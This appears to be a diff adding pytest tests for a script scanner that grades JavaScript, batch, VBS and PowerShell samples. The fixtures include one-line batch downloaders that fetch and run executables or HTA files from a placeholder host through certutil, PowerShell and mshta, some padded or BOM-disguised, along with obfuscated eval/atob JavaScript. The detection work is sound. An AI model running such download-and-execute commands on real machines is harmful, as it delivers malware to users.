@@ -94,3 +94,62 @@ def test_a_megabyte_in_a_second() -> None:
     began = time.process_time()
     inspected("a.js", data)
     assert time.process_time() - began < 2  # half of that on the machine it was measured on
+
+
+LIBRARY = "function a(b){if(b){for(var i=0;i<9999;i++){c(i%7)}}return b.d};" * 1500
+
+
+def limits(name: str, text: str) -> list[Severity]:
+    return [each.severity for each in inspected(name, text.encode()) if each.name == "script.limit"]
+
+
+def test_a_long_script_that_is_not_followed_is_only_noted() -> None:
+    assert limits("a.js", LIBRARY) == [Severity.INFORMATIONAL]
+
+
+@pytest.mark.parametrize(
+    "more",
+    [
+        "x=new ActiveXObject('WScript.Shell')",
+        "eval('ale'+'rt(12345678901)')",
+        f"eval(d('{'QUJDabc1' * 20}'))",
+        "".join(f'atob("{"QUJDREVGR0hJSktM" * 3}{each:04d}");' for each in range(600)),
+    ],
+)
+def test_unless_it_has_something_to_hide(more: str) -> None:
+    assert limits("a.js", LIBRARY + more) == [Severity.MEDIUM]
+
+
+def test_a_short_one_that_costs_much_is_a_bomb() -> None:
+    assert limits("a.js", "for(var i=0;i<1e9;i++){for(var j=0;j<1e9;j++){k=i+j}}") == [Severity.MEDIUM]
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("a.bat", "certutil -urlcache -split -f http://example.invalid/a.exe a.exe && start a.exe"),
+        ("a.bat", "powershell iwr http://example.invalid/a.exe -OutFile a.exe; Start-Process a.exe"),
+        ("a.bat", "@echo off\nmshta http://example.invalid/a.hta"),
+        ("a.bat", "\xff\xfe&cls\r\nmshta http://example.invalid/a.hta\r\n"),
+        ("a.bat", "rem of no use to anybody who reads\n" * 200 + "mshta http://example.invalid/a.hta"),
+    ],
+)
+def test_downloaders_in_one_line(name: str, text: str) -> None:
+    assert grade(name, text.encode("latin-1")) == "malicious"
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        (
+            "a.vbs",
+            'Set w = GetObject("winmgmts:\\\\.\\root\\cimv2")\nFor Each o In w.ExecQuery("Select * from X")\nNext',
+        ),
+        ("a.vbs", 'Set s = CreateObject("WScript.Shell")\ns.Popup "Drives are mapped", 3'),
+        ("a.vbs", 'Set x = CreateObject("Excel.Application")\nx.Run "Update"\nx.Quit'),
+        ("a.bat", "curl -s https://example.invalid/status -o status.json\ntype status.json"),
+        ("a.ps1", '$u="https://example.invalid/v$v"\nInvoke-WebRequest -Uri $u -OutFile $zip\nExpand-Archive $zip'),
+    ],
+)
+def test_honest_errands(name: str, text: str) -> None:
+    assert grade(name, text.encode()) == "present"
